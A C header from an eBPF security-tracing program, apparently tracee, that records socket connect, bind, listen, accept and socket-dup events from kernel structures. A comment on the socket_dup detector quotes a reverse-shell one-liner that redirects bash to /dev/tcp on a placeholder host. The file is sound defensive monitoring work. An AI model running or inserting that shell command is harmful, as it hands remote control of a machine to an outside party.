/* SPDX-License-Identifier: GPL-2.0 */
/*
 * derive_net.h - part of tracee.bpf.c: the socket events derived at
 * sys_exit: security_socket_{connect,bind,listen,accept} and socket_dup.
 */

/*
 * The local (listen, accept) or remote (socket_dup) address of a socket as
 * a struct sockaddr, from the struct sock: AF_INET, AF_INET6, AF_UNIX (the
 * peer's bound name for remote); other families: the family alone.
 */
TR_NOINLINE int tr_g_sock_addr(__u32 slot, __u32 idx, __u64 sockp, __u32 remote)
{
	__u8 *buf = tr_scratch(slot);
	struct socket *sock = (struct socket *)sockp;
	struct sock *sk = READ_KERN(sock->sk);
	__u16 family = READ_KERN(sk->__sk_common.skc_family);
	__u16 port = remote ? READ_KERN(sk->__sk_common.skc_dport) :
			      __builtin_bswap16(READ_KERN(sk->__sk_common.skc_num));
	struct {
		__u16 family;
		__u16 port;
		__u32 flowinfo;	/* sockaddr_in: the address, then zero */
		__u8 addr6[16];
		__u32 scope_id;
	} sa = {};
	__u32 len = sizeof(__u16);

	if (!buf)
		return 0;
	sa.family = family;
	if (family == TR_AF_INET) {
		sa.port = port;
		sa.flowinfo = remote ? READ_KERN(sk->__sk_common.skc_daddr) :
				       READ_KERN(sk->__sk_common.skc_rcv_saddr);
		len = 16;
	} else if (family == TR_AF_INET6) {
		sa.port = port;
		if (remote)
			KREAD_N(sa.addr6, sizeof(sa.addr6), sk->__sk_common.skc_v6_daddr);
		else
			KREAD_N(sa.addr6, sizeof(sa.addr6), sk->__sk_common.skc_v6_rcv_saddr);
		len = 28;
	}
#ifdef TR_HAVE_UNIX_SOCK
	else if (family == TR_AF_UNIX) {
		struct sock *usk = remote ? READ_KERN(((struct unix_sock *)sk)->peer) : sk;
		struct unix_address *ua = usk ? READ_KERN(((struct unix_sock *)usk)->addr) : NULL;

		if (ua) {
			int l = READ_KERN(ua->len);

			if (l > 0 && l <= (int)sizeof(struct sockaddr_un)) {
				tr_put_kbytes(buf, idx, TR_W_SOCKADDR, &ua->name[0], l);
				return 0;
			}
		}
	}
#endif
	tr_put_kbytes(buf, idx, TR_W_SOCKADDR, &sa, len);
	return 0;
}

/*
 * socket_dup: dup/dup2/dup3 of a socket (a shell's stdin/stdout made a
 * connection: bash -i >& /dev/tcp/HOST/PORT 0>&1).  Args: oldfd, newfd,
 * remote_addr.
 */
TR_NOINLINE int tr_g_socket_dup(__u32 nr)
{
	struct tr_exit_state *es = tr_exit_state();
	__u8 *buf = tr_scratch(TR_SLOT_EXIT);
	struct file *file;

	if (!es || !buf || es->ret < 0)
		return 0;
	/* the new fd names the same file as the old one */
	file = tr_fd_file(es->ret);
	if (!file || !tr_file_is(file, TR_S_IFSOCK))
		return 0;
	tr_fill_hdr((void *)buf, TR_EV_SOCKET_DUP, nr);
	tr_put_u64(buf, 0, (int)es->st.args[0]);
	tr_put_u64(buf, 1, es->ret);
	tr_g_sock_addr(TR_SLOT_EXIT, 2, (__u64)READ_KERN(file->private_data), 1);
	return 1;
}

/*
 * The address connect or bind was given: as sys_enter read it (se), else
 * (no room was left to keep it, or the read failed then) the caller's
 * memory now, counted as read late.
 */
static __always_inline void tr_put_call_addr(__u8 *buf, __u8 idx, struct tr_exit_state *es,
					     struct tr_sock_entry *se)
{
	__u32 len;

	if (se && se->len != TR_SOCK_UNREAD) {
		len = se->len;
		tr_put_kbytes(buf, idx, TR_W_SOCKADDR, se->addr, len);
		return;
	}
	if (se)
		tr_stat_inc(TR_STAT_READ_LATE);
	tr_put_ubytes(buf, idx, TR_W_SOCKADDR, (const void *)es->st.args[1], (__u32)es->st.args[2],
		      TR_SOCKADDR_MAX);
}

/* security_socket_{connect,bind,listen,accept}: the fd is a socket. */
static __always_inline int tr_socket_event(__u32 nr, struct tr_sock_entry *se)
{
	struct tr_exit_state *es = tr_exit_state();
	__u8 *buf = tr_scratch(TR_SLOT_EXIT);
	struct socket *sock;
	struct file *file;
	__u32 id;

	if (!es || !buf)
		return 0;
	if (nr == TR_NR_CONNECT)
		id = TR_EV_SECURITY_SOCKET_CONNECT;
	else if (nr == TR_NR_BIND)
		id = TR_EV_SECURITY_SOCKET_BIND;
	else if (nr == TR_NR_LISTEN)
		id = TR_EV_SECURITY_SOCKET_LISTEN;
	else
		id = TR_EV_SECURITY_SOCKET_ACCEPT;
	if (!tr_ev_selected(id))
		return 0;
	file = tr_fd_file((int)es->st.args[0]);
	if (!file || !tr_file_is(file, TR_S_IFSOCK))
		return 0;	/* the hook is never reached for a bad fd */
	sock = READ_KERN(file->private_data);
	tr_fill_hdr((void *)buf, id, nr);
	tr_put_u64(buf, 0, (int)es->st.args[0]);
	if (id == TR_EV_SECURITY_SOCKET_CONNECT) {
		tr_put_u64(buf, 1, READ_KERN(sock->type));
		tr_put_call_addr(buf, 2, es, se);
	} else if (id == TR_EV_SECURITY_SOCKET_BIND) {
		tr_put_call_addr(buf, 1, es, se);
	} else {
		tr_g_sock_addr(TR_SLOT_EXIT, 1, (__u64)sock, 0);
		if (id == TR_EV_SECURITY_SOCKET_LISTEN)
			tr_put_u64(buf, 2, (int)es->st.args[1]);
	}
	return 1;
}

TR_NOINLINE int tr_g_socket(__u32 nr)
{
	__u32 tid = (__u32)bpf_get_current_pid_tgid();
	struct tr_sock_entry *se = NULL;
	int r;

	if (nr == TR_NR_CONNECT || nr == TR_NR_BIND)
		se = bpf_map_lookup_elem(&sock_entry, &tid);
	r = tr_socket_event(nr, se);
	if (se)
		bpf_map_delete_elem(&sock_entry, &tid);	/* freed after this program: se stays valid */
	return r;
}
